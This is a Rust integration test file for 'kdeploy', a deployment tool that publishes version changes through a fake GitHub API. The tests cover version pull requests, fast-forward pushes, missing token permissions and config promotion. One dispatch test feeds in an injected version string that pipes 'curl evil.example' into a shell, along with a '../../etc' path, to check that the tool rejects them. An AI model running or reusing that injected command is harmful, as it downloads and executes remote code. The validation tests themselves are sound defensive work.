//! Publishing version changes through the GitHub API (`--pr`, `--push`)
//! against the fake GitHub's git data and pull request endpoints: one
//! branch and PR per release, idempotent re-runs, fast-forward-only pushes,
//! and tokens that lack a permission.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::fake_github::{FakeGitHub, REPO};
use crate::util::{Repo, Run};

/// Runs the binary in `dir` against the fake, off the runtime's threads.
pub(crate) async fn kdeploy(gh: &FakeGitHub, dir: &Path, args: &[&str]) -> Run {
    let (url, dir) = (gh.url.clone(), dir.to_path_buf());
    let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    tokio::task::spawn_blocking(move || run(&url, &dir, &args))
        .await
        .expect("joins")
}

fn run(url: &str, dir: &PathBuf, args: &[String]) -> Run {
    Command::new(env!("CARGO_BIN_EXE_kdeploy"))
        .args(args)
        .current_dir(dir)
        .env("GITHUB_API_URL", url)
        .env("GITHUB_TOKEN", "ghs_publishcanary0123456789")
        .env("GITHUB_REPOSITORY", REPO)
        .env_remove("GITHUB_REF")
        .env("NO_COLOR", "1")
        .output()
        .expect("kdeploy runs")
        .into()
}

fn pushed(gh: &FakeGitHub, repo: &Repo) -> String {
    gh.push_branch(repo.path(), "main")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn set_version_opens_one_pull_request_per_release_and_keeps_it_current() {
    let gh = FakeGitHub::start().await;
    let repo = Repo::with_app();
    repo.commit("apps");
    let main = pushed(&gh, &repo);

    let first = kdeploy(
        &gh,
        repo.path(),
        &["set-version", "api", "staging", "1.1.0", "--pr"],
    )
    .await;
    assert_eq!(first.code, 0, "{}{}", first.stdout, first.stderr);
    assert!(
        first.stdout.contains("propose api staging (none) → 1.1.0")
            || first.stdout.contains("propose api staging 1.0.0 → 1.1.0"),
        "{}",
        first.stdout
    );
    assert!(
        first.stdout.contains(&format!(
            "api: 1.0.0 → 1.1.0 in staging: opened pull request #1 https://github.com/{REPO}/pull/1"
        )),
        "{}",
        first.stdout
    );
    // Seven calls open it: base commit, tree, branch lookup, commit,
    // branch, PR lookup, PR.
    let calls: Vec<String> = gh
        .requests()
        .iter()
        .map(|r| format!("{} {}", r.method, r.path.split('?').next().unwrap_or("")))
        .collect();
    assert_eq!(calls.len(), 7, "{calls:#?}");
    // The work tree is left as it was: the change lives on the branch.
    assert!(!repo.path().join("services/api/staging/version").exists());
    let pulls = gh.pulls();
    assert_eq!(pulls.len(), 1);
    let pr = &pulls[0];
    assert_eq!((pr.number, pr.state.as_str()), (1, "open"));
    assert_eq!(
        (pr.head.as_str(), pr.base.as_str()),
        ("kdeploy/version/api/staging", "main")
    );
    assert_eq!(pr.title, "api: 1.0.0 → 1.1.0 in staging");
    // The body says what changes and shows the plan of exactly that release.
    assert!(
        pr.body
            .contains("| api | staging | `1.0.0` | `1.1.0` | set by hand |"),
        "{}",
        pr.body
    );
    assert!(pr.body.contains("api-staging"), "{}", pr.body);
    assert!(pr.body.contains("1.1.0"), "{}", pr.body);
    assert!(!pr.body.contains("api-production"), "{}", pr.body);
    // One commit on main's tip that writes exactly the version file.
    let tip = gh.branch("kdeploy/version/api/staging").expect("branch");
    let (message, parents) = gh.commit(&tip).expect("commit");
    assert_eq!(parents, vec![main.clone()]);
    assert!(
        message.starts_with("api: 1.0.0 → 1.1.0 in staging\n\n- api staging"),
        "{message}"
    );
    let before = gh.files_at(&main);
    let mut after = gh.files_at(&tip);
    assert_eq!(
        after.remove("services/api/staging/version").as_deref(),
        Some("1.1.0\n")
    );
    assert_eq!(after, before);

    // The same again: nothing new, no second PR.
    let again = kdeploy(
        &gh,
        repo.path(),
        &["set-version", "api", "staging", "1.1.0", "--pr"],
    )
    .await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(
        again
            .stdout
            .contains("pull request #1 already proposes this"),
        "{}",
        again.stdout
    );
    assert_eq!(gh.branch("kdeploy/version/api/staging"), Some(tip.clone()));
    // Five calls find nothing to do; the only write is the (idempotent) tree.
    let rerun: Vec<String> = gh.requests()[7..]
        .iter()
        .map(|r| r.method.clone())
        .collect();
    assert_eq!(rerun, ["GET", "POST", "GET", "GET", "GET"], "{rerun:?}");
    // A newer version updates the same PR.
    let newer = kdeploy(
        &gh,
        repo.path(),
        &["set-version", "api", "staging", "1.2.0", "--pr"],
    )
    .await;
    assert!(
        newer.stdout.contains("updated pull request #1"),
        "{}{}",
        newer.stdout,
        newer.stderr
    );
    let pulls = gh.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].title, "api: 1.0.0 → 1.2.0 in staging");
    let tip = gh.branch("kdeploy/version/api/staging").expect("branch");
    assert_eq!(gh.files_at(&tip)["services/api/staging/version"], "1.2.0\n");
    // Another release gets its own.
    let prod = kdeploy(
        &gh,
        repo.path(),
        &["set-version", "api", "production", "1.2.0", "--pr"],
    )
    .await;
    assert!(
        prod.stdout.contains("opened pull request #2"),
        "{}{}",
        prod.stdout,
        prod.stderr
    );
    assert_eq!(gh.pulls()[1].head, "kdeploy/version/api/production");
    // The token never shows.
    for r in [&first, &again, &newer, &prod] {
        assert!(!format!("{}{}", r.stdout, r.stderr).contains("publishcanary"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn push_commits_onto_the_branch_only_as_a_fast_forward() {
    let gh = FakeGitHub::start().await;
    // A monorepo with its config under deploy/.
    let repo = Repo::new();
    repo.write("README.md", "app code\n")
        .write(
            "deploy/services/api/config.yaml",
            "image: ghcr.io/example/api\n",
        )
        .write("deploy/services/api/version", "1.0.0\n")
        .write("deploy/services/api/staging/config.yaml", "");
    repo.commit("apps");
    let main = pushed(&gh, &repo);
    let dir = repo.path().join("deploy");

    let run = kdeploy(
        &gh,
        &dir,
        &["set-version", "api", "staging", "1.1.0", "--push"],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let tip = gh.branch("main").expect("main");
    assert_ne!(tip, main);
    assert!(
        run.stdout.contains(&format!("pushed {tip} to main")),
        "{}",
        run.stdout
    );
    assert_eq!(gh.commit(&tip).expect("commit").1, vec![main.clone()]);
    assert_eq!(
        gh.files_at(&tip)["deploy/services/api/staging/version"],
        "1.1.0\n"
    );
    assert!(gh.pulls().is_empty());

    // The local checkout is now behind: a second push is refused whole.
    let stale = kdeploy(
        &gh,
        &dir,
        &["set-version", "api", "staging", "1.2.0", "--push"],
    )
    .await;
    assert_eq!(stale.code, 2, "{}{}", stale.stdout, stale.stderr);
    assert!(
        stale.stderr.contains("main has moved on since")
            && stale.stderr.contains("nothing was pushed"),
        "{}",
        stale.stderr
    );
    assert_eq!(gh.branch("main"), Some(tip));

    // --dry-run with --pr makes no sense.
    let both = kdeploy(
        &gh,
        &dir,
        &["promote", "--from", "a", "--to", "b", "--dry-run", "--pr"],
    )
    .await;
    assert!(
        both.stderr
            .contains("cannot be combined with --pr or --push"),
        "{}",
        both.stderr
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_permissions_and_unpushed_commits_are_named_and_nothing_is_left() {
    let repo = Repo::with_app();
    repo.commit("apps");
    let args = ["set-version", "api", "staging", "1.1.0", "--pr"];

    // No `contents: write`: the first write fails, nothing exists after.
    let gh = FakeGitHub::start().await;
    pushed(&gh, &repo);
    gh.deny("/git/", "contents=write");
    let run = kdeploy(&gh, repo.path(), &args).await;
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("cannot commit the change")
            && run.stderr.contains("the token needs `contents: write`"),
        "{}",
        run.stderr
    );
    assert_eq!(gh.branch("kdeploy/version/api/staging"), None);
    assert!(gh.pulls().is_empty());

    // No `pull-requests: write`: the branch made for the PR goes again.
    let gh = FakeGitHub::start().await;
    pushed(&gh, &repo);
    gh.deny("/pulls", "pull_requests=write");
    let run = kdeploy(&gh, repo.path(), &args).await;
    assert_eq!(run.code, 2);
    assert!(
        run.stderr
            .contains("the token needs `pull-requests: write`"),
        "{}",
        run.stderr
    );
    assert_eq!(gh.branch("kdeploy/version/api/staging"), None);

    // A repository that does not let Actions open PRs says where to allow it.
    let gh = FakeGitHub::start().await;
    pushed(&gh, &repo);
    gh.forbid_pull_creation();
    let run = kdeploy(&gh, repo.path(), &args).await;
    assert!(
        run.stderr
            .contains("Allow GitHub Actions to create and approve pull requests"),
        "{}",
        run.stderr
    );
    assert_eq!(gh.branch("kdeploy/version/api/staging"), None);

    // A local commit GitHub has never seen.
    let gh = FakeGitHub::start().await;
    pushed(&gh, &repo);
    repo.write("services/api/staging/config.yaml", "replicas: 2\n");
    let local = repo.commit("not pushed");
    let run = kdeploy(&gh, repo.path(), &args).await;
    assert!(
        run.stderr
            .contains(&format!("the checked-out commit {local} is not on GitHub"))
            && run.stderr.contains("push it first"),
        "{}",
        run.stderr
    );

    // No token at all.
    let out: Run = Command::new(env!("CARGO_BIN_EXE_kdeploy"))
        .args(args)
        .current_dir(repo.path())
        .env_remove("GITHUB_TOKEN")
        .env_remove("GH_TOKEN")
        .output()
        .expect("runs")
        .into();
    assert!(out.stderr.contains("set GITHUB_TOKEN"), "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn promote_opens_a_pull_request_whose_body_is_the_plan() {
    let gh = FakeGitHub::start().await;
    let repo = Repo::with_app();
    repo.write("services/api/staging/version", "1.1.0\n");
    repo.commit("staging runs 1.1.0");
    pushed(&gh, &repo);
    let run = kdeploy(
        &gh,
        repo.path(),
        &["promote", "--from", "staging", "--to", "production", "--pr"],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    // The terminal shows the plan too.
    assert!(
        run.stdout
            .contains("~ apps/Deployment api-production/api [api] image api: 1.0.0 → 1.1.0"),
        "{}",
        run.stdout
    );
    let pulls = gh.pulls();
    assert_eq!(pulls.len(), 1, "{}", run.stdout);
    assert_eq!(pulls[0].head, "kdeploy/promote/staging-to-production");
    assert_eq!(pulls[0].title, "api: 1.0.0 → 1.1.0 in production");
    assert!(
        pulls[0].body.contains("promoted from staging"),
        "{}",
        pulls[0].body
    );
    assert!(
        pulls[0].body.contains("api-production"),
        "{}",
        pulls[0].body
    );
    assert!(!repo.path().join("services/api/production/version").exists());
}

/// Runs the action in a shallow clone of `origin`'s main, on `event`.
async fn action(
    gh: &FakeGitHub,
    origin: &Repo,
    event: &str,
    payload: &serde_json::Value,
    inputs: &[(&str, &str)],
) -> (u8, String, String, String) {
    action_on(gh, origin, "main", event, payload, inputs).await
}

/// [`action`] in a clone of `branch`.
pub(crate) async fn action_on(
    gh: &FakeGitHub,
    origin: &Repo,
    branch: &str,
    event: &str,
    payload: &serde_json::Value,
    inputs: &[(&str, &str)],
) -> (u8, String, String, String) {
    let work = crate::util::shallow_clone(origin, branch);
    let runner = tempfile::tempdir().expect("temp");
    let path = |name: &str| runner.path().join(name).display().to_string();
    std::fs::write(path("event.json"), payload.to_string()).expect("event");
    let mut vars: Vec<(String, String)> = vec![
        ("GITHUB_EVENT_NAME".into(), event.into()),
        ("GITHUB_EVENT_PATH".into(), path("event.json")),
        ("GITHUB_WORKSPACE".into(), work.path().display().to_string()),
        ("GITHUB_API_URL".into(), gh.url.clone()),
        ("GITHUB_REPOSITORY".into(), REPO.into()),
        ("GITHUB_REF".into(), format!("refs/heads/{branch}")),
        ("GITHUB_STEP_SUMMARY".into(), path("summary.md")),
        ("GITHUB_OUTPUT".into(), path("output")),
        ("RUNNER_TEMP".into(), runner.path().display().to_string()),
        (
            "INPUT_GITHUB-TOKEN".into(),
            "ghs_publishcanary0123456789".into(),
        ),
    ];
    vars.extend(
        inputs
            .iter()
            .map(|(k, v)| ((*k).to_string(), (*v).to_string())),
    );
    let env = kdeploy::action::ActionEnv::from_vars(vars);
    let mut log = Vec::new();
    let retry = kdeploy::github::RetryPolicy {
        attempts: 2,
        base: std::time::Duration::from_millis(10),
        max_wait: std::time::Duration::from_secs(1),
    };
    let code = match kdeploy::action::run(&env, retry, &mut log).await {
        Ok(c) => c,
        Err(e) => {
            log.extend(format!("error: {e:#}").into_bytes());
            255
        }
    };
    let read = |name: &str| std::fs::read_to_string(path(name)).unwrap_or_default();
    (
        code,
        String::from_utf8_lossy(&log).into_owned(),
        read("summary.md"),
        read("output"),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_action_turns_a_dispatch_into_a_version_pull_request() {
    let gh = FakeGitHub::start().await;
    let origin = Repo::with_app();
    origin.commit("apps");
    pushed(&gh, &origin);
    let payload = serde_json::json!({
        "action": "set-version", "branch": "main",
        "client_payload": {"app": "api", "env": "staging", "version": "1.4.2"},
        "repository": {"full_name": REPO},
    });
    let images = [("INPUT_MODE", "images")];
    let (code, log, summary, outputs) =
        action(&gh, &origin, "repository_dispatch", &payload, &images).await;
    assert_eq!(code, 0, "{log}");
    assert!(
        log.contains("propose api staging 1.0.0 → 1.4.2 (set by hand)"),
        "{log}"
    );
    assert!(log.contains("opened pull request #1"), "{log}");
    assert!(
        summary.contains("| api | staging | `1.0.0` | `1.4.2` | set by hand |"),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("opened [#1](https://github.com/{REPO}/pull/1)")),
        "{summary}"
    );
    assert!(outputs.contains(r#""outcome":"opened""#), "{outputs}");
    assert!(
        outputs.contains(&format!("https://github.com/{REPO}/pull/1")),
        "{outputs}"
    );
    assert_eq!(gh.pulls().len(), 1);
    // The token shows only in the runner's own mask command.
    let shown: String = format!("{log}{summary}{outputs}")
        .lines()
        .filter(|l| !l.starts_with("::add-mask::"))
        .collect();
    assert!(!shown.contains("publishcanary"), "{shown}");

    // The same dispatch again (a retried webhook): no duplicate.
    let (code, log, _, _) = action(&gh, &origin, "repository_dispatch", &payload, &images).await;
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("already proposes this"), "{log}");
    assert_eq!(gh.pulls().len(), 1);

    // A version that is no image tag is refused before anything is written.
    let mut bad = payload.clone();
    bad["client_payload"]["version"] = serde_json::json!("1.4.3; curl evil.example | sh");
    let (code, log, _, _) = action(&gh, &origin, "repository_dispatch", &bad, &images).await;
    assert_ne!(code, 0);
    assert!(log.contains("is not a valid image tag"), "{log}");
    let mut unknown = payload.clone();
    unknown["client_payload"]["app"] = serde_json::json!("../../etc");
    let (_, log, _, _) = action(&gh, &origin, "repository_dispatch", &unknown, &images).await;
    assert!(
        log.contains("there is no release ../../etc/staging"),
        "{log}"
    );
    assert_eq!(gh.pulls().len(), 1);

    // On a pull request the mode refuses to write.
    let pr = serde_json::json!({"action": "opened", "number": 3, "pull_request": {"number": 3,
        "base": {"ref": "main", "sha": "x", "repo": {"full_name": REPO}},
        "head": {"ref": "x", "sha": "y", "repo": {"full_name": REPO}}}});
    let (code, log, _, _) = action(&gh, &origin, "pull_request", &pr, &images).await;
    assert_ne!(code, 0);
    assert!(log.contains("not on pull requests"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_action_promotes_by_workflow_dispatch_with_a_push() {
    let gh = FakeGitHub::start().await;
    let origin = Repo::with_app();
    origin.write("services/api/staging/version", "1.1.0\n");
    origin.commit("staging runs 1.1.0");
    let main = pushed(&gh, &origin);
    let payload = serde_json::json!({"inputs": {"from": "staging", "to": "production"}, "ref": "refs/heads/main"});
    let (code, log, summary, outputs) = action(
        &gh,
        &origin,
        "workflow_dispatch",
        &payload,
        &[("INPUT_MODE", "promote"), ("INPUT_PUBLISH", "push")],
    )
    .await;
    assert_eq!(code, 0, "{log}");
    let tip = gh.branch("main").expect("main");
    assert_ne!(tip, main);
    assert_eq!(
        gh.files_at(&tip)["services/api/production/version"],
        "1.1.0\n"
    );
    assert!(outputs.contains(&tip), "{outputs}");
    assert!(summary.contains("starts no other workflow"), "{summary}");
    assert!(gh.pulls().is_empty());

    // Nothing left to promote: a notice, no commit.
    let (code, log, ..) = action(
        &gh,
        &origin,
        "workflow_dispatch",
        &payload,
        &[
            ("INPUT_MODE", "promote"),
            ("INPUT_PROMOTE-FROM", "production"),
            ("INPUT_PROMOTE-TO", "production"),
        ],
    )
    .await;
    assert_ne!(code, 0);
    assert!(log.contains("nothing to promote"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn branch_bound_environments_deploy_from_their_branch_and_promote_by_fast_forward() {
    let gh = FakeGitHub::start().await;
    let sim = crate::k8s_sim::Sim::start().await;
    let kubeconfig = sim.kubeconfig();
    let origin = Repo::with_app();
    origin.write(
        "kdeploy.yaml",
        "environments:\n  staging: {branch: main}\n  production: {branch: production}\n",
    );
    let first = origin.commit("apps");
    origin.git(&["branch", "production"]);
    origin.write("services/api/version", "1.1.0\n");
    let second = origin.commit("api 1.1.0 everywhere");
    let main = pushed(&gh, &origin);
    gh.push_branch(origin.path(), "production");
    let deploy = [
        ("INPUT_MODE", "apply"),
        ("INPUT_KUBECONFIG", kubeconfig.as_str()),
        ("INPUT_TIMEOUT", "0"),
        ("INPUT_GITHUB-DEPLOYMENTS", "false"),
    ];
    let image = |ns: &str| {
        sim.get("apps", "Deployment", ns, "api")
            .map(|d| d["spec"]["template"]["spec"]["containers"][0]["image"].to_string())
    };

    // A push to main deploys staging, never production.
    let push = serde_json::json!({"ref": "refs/heads/main", "before": first, "after": second});
    let (code, log, ..) = action(&gh, &origin, "push", &push, &deploy).await;
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("branch main deploys only staging"), "{log}");
    assert_eq!(
        image("api-staging").as_deref(),
        Some("\"ghcr.io/example/api:1.1.0\"")
    );
    assert_eq!(image("api-production"), None, "{log}");
    // A push to a branch no environment is bound to deploys nothing.
    let push = serde_json::json!({"ref": "refs/heads/feature", "before": first, "after": second});
    let (code, log, ..) = action(&gh, &origin, "push", &push, &deploy).await;
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("left out: production, staging"), "{log}");
    assert_eq!(image("api-production"), None, "{log}");

    // Promotion plans production from its branch to main's commit ...
    let dry = kdeploy(
        &gh,
        origin.path(),
        &[
            "promote",
            "--from",
            "staging",
            "--to",
            "production",
            "--dry-run",
        ],
    )
    .await;
    assert_eq!(dry.code, 0, "{}{}", dry.stdout, dry.stderr);
    assert!(
        dry.stdout.contains("image api: 1.0.0 → 1.1.0"),
        "{}",
        dry.stdout
    );
    assert!(dry.stdout.contains("api-production"), "{}", dry.stdout);
    assert!(!dry.stdout.contains("api-staging"), "{}", dry.stdout);
    assert!(
        dry.stdout.contains("would fast-forward production to main"),
        "{}",
        dry.stdout
    );
    assert_eq!(gh.branch("production"), Some(first.clone()));
    // ... and fast-forwards it.
    let run = kdeploy(
        &gh,
        origin.path(),
        &["promote", "--from", "staging", "--to", "production"],
    )
    .await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("fast-forwarded production to main"),
        "{}",
        run.stdout
    );
    assert_eq!(gh.branch("production"), Some(main.clone()));
    // The push that follows deploys production only.
    origin.git(&["checkout", "-q", "production"]);
    origin.git(&["merge", "-q", "--ff-only", "main"]);
    origin.git(&["checkout", "-q", "main"]);
    let push =
        serde_json::json!({"ref": "refs/heads/production", "before": first, "after": second});
    let (code, log, ..) = action_on(&gh, &origin, "production", "push", &push, &deploy).await;
    assert_eq!(code, 0, "{log}");
    assert!(
        log.contains("branch production deploys only production"),
        "{log}"
    );
    assert_eq!(
        image("api-production").as_deref(),
        Some("\"ghcr.io/example/api:1.1.0\"")
    );

    // A hotfix on production: the next promotion is not a fast-forward.
    origin.git(&["checkout", "-q", "production"]);
    origin.write("services/api/production/config.yaml", "replicas: 4\n");
    let hotfix = origin.commit("hotfix");
    gh.push_branch(origin.path(), "production");
    origin.git(&["checkout", "-q", "main"]);
    origin.write("services/api/version", "1.2.0\n");
    origin.commit("api 1.2.0");
    gh.push_branch(origin.path(), "main");
    let refused = kdeploy(
        &gh,
        origin.path(),
        &["promote", "--from", "staging", "--to", "production"],
    )
    .await;
    assert_eq!(refused.code, 2, "{}", refused.stdout);
    assert!(
        refused.stderr.contains(
            "cannot fast-forward production to main: production has commits that main does not"
        ) && refused.stderr.contains("Update is not a fast forward")
            && refused.stderr.contains("nothing was changed"),
        "{}",
        refused.stderr
    );
    assert_eq!(gh.branch("production"), Some(hotfix));
    // With --pr: a pull request between the branches, the plan as body.
    let pr = kdeploy(
        &gh,
        origin.path(),
        &["promote", "--from", "staging", "--to", "production", "--pr"],
    )
    .await;
    assert_eq!(pr.code, 0, "{}{}", pr.stdout, pr.stderr);
    let pulls = gh.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!(
        (pulls[0].head.as_str(), pulls[0].base.as_str()),
        ("main", "production")
    );
    assert_eq!(pulls[0].title, "Promote main to production");
    assert!(
        pulls[0].body.contains("api-production"),
        "{}",
        pulls[0].body
    );

    // One environment bound and the other not: refused with the reason.
    origin.write(
        "kdeploy.yaml",
        "environments:\n  production: {branch: production}\n",
    );
    let half = kdeploy(
        &gh,
        origin.path(),
        &["promote", "--from", "staging", "--to", "production"],
    )
    .await;
    assert!(
        half.stderr.contains("production deploys from branch production (environments.production.branch) but staging is bound to no branch"),
        "{}",
        half.stderr
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn promote_keys_copies_config_values_keeping_the_file_as_written() {
    let gh = FakeGitHub::start().await;
    let repo = Repo::with_app();
    repo.write(
        "services/api/staging/config.yaml",
        "replicas: 2\nenv:\n  LOG_LEVEL: debug\n  FEATURE_X: \"on\"\n",
    )
    .write(
        "services/api/production/config.yaml",
        "# production: keep an eye on cost\nreplicas: 3  # HA\nenv:\n  LOG_LEVEL: warn\n",
    );
    repo.commit("configs");
    pushed(&gh, &repo);
    let args = [
        "promote",
        "--from",
        "staging",
        "--to",
        "production",
        "--keys",
        "env.FEATURE_X,replicas,port",
    ];
    let dry: Vec<&str> = args.iter().copied().chain(["--dry-run"]).collect();
    let run = kdeploy(&gh, repo.path(), &dry).await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stdout
            .contains("would set api production (none) → on (env.FEATURE_X promoted from staging)"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("would set api production 3 → 2 (replicas promoted from staging)"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("api staging: `port` is not set; production keeps its own"),
        "{}",
        run.stdout
    );

    let run = kdeploy(&gh, repo.path(), &args).await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    // Comments and the key that was not promoted stay as written.
    assert_eq!(
        repo.read("services/api/production/config.yaml"),
        "# production: keep an eye on cost\nreplicas: 2  # HA\nenv:\n  FEATURE_X: 'on'\n  LOG_LEVEL: warn\n"
    );
    assert!(run.stdout.contains("replicas"), "{}", run.stdout);

    // As a pull request, with the version files, the work tree untouched.
    repo.git(&["checkout", "--", "."]);
    repo.write("services/api/staging/version", "1.1.0\n");
    repo.commit("staging runs 1.1.0");
    pushed(&gh, &repo);
    let pr: Vec<&str> = args.iter().copied().chain(["--pr"]).collect();
    let run = kdeploy(&gh, repo.path(), &pr).await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let tip = gh
        .branch("kdeploy/promote/staging-to-production")
        .expect("branch");
    let files = gh.files_at(&tip);
    assert_eq!(files["services/api/production/version"], "1.1.0\n");
    assert!(files["services/api/production/config.yaml"].contains("replicas: 2  # HA"));
    let pulls = gh.pulls();
    assert_eq!(pulls[0].title, "kdeploy: 3 version changes");
    assert!(
        pulls[0]
            .body
            .contains("| api | production | `3` | `2` | replicas promoted from staging |"),
        "{}",
        pulls[0].body
    );
    assert_eq!(
        repo.read("services/api/production/config.yaml"),
        "# production: keep an eye on cost\nreplicas: 3  # HA\nenv:\n  LOG_LEVEL: warn\n"
    );

    // A key that is a map is refused, naming the file and line.
    let run = kdeploy(
        &gh,
        repo.path(),
        &[
            "promote",
            "--from",
            "staging",
            "--to",
            "production",
            "--keys",
            "env",
        ],
    )
    .await;
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("`env` of api staging is a map or list (services/api/staging/config.yaml over services/api/config.yaml)"),
        "{}",
        run.stderr
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn images_update_opens_a_pull_request_per_release_from_the_real_registry() {
    let Some(registry) = crate::lock::Registry::start() else {
        return;
    };
    let host = registry.host.clone();
    for tag in ["1.0.0", "1.2.0", "2.0.0"] {
        registry.push("example/api", tag, "api", false);
    }
    registry.push(
        "example/web",
        "v1_abc1234_2026-01-02T10.00.00Z",
        "web",
        false,
    );
    let gh = FakeGitHub::start().await;
    let repo = crate::images::config_repo(&host);
    pushed(&gh, &repo);

    let run = kdeploy(&gh, repo.path(), &["images", "update", "--pr"]).await;
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let mut heads: Vec<String> = gh.pulls().into_iter().map(|p| p.head).collect();
    heads.sort();
    assert_eq!(
        heads,
        [
            "kdeploy/version/api/staging",
            "kdeploy/version/web/production",
            "kdeploy/version/web/staging"
        ]
    );
    let tip = gh.branch("kdeploy/version/api/staging").expect("branch");
    let files = gh.files_at(&tip);
    assert_eq!(files["services/api/staging/version"], "1.2.0\n");
    assert!(!files.contains_key("services/web/staging/version"));
    assert!(!repo.path().join("services/api/staging/version").exists());

    // Nothing new in the registry: no commit, no pull request.
    let again = kdeploy(&gh, repo.path(), &["images", "update", "--pr"]).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(
        again.stdout.matches("already proposes this").count(),
        3,
        "{}",
        again.stdout
    );
    assert_eq!(gh.pulls().len(), 3);
    assert_eq!(gh.branch("kdeploy/version/api/staging"), Some(tip));
    // A new tag: the same pull request moves on.
    registry.push("example/api", "1.3.0", "api", false);
    let newer = kdeploy(
        &gh,
        repo.path(),
        &["images", "update", "--pr", "--app", "api"],
    )
    .await;
    assert!(
        newer
            .stdout
            .contains("api: 1.0.0 → 1.3.0 in staging: updated pull request #"),
        "{}{}",
        newer.stdout,
        newer.stderr
    );
    assert_eq!(gh.pulls().len(), 3);
}
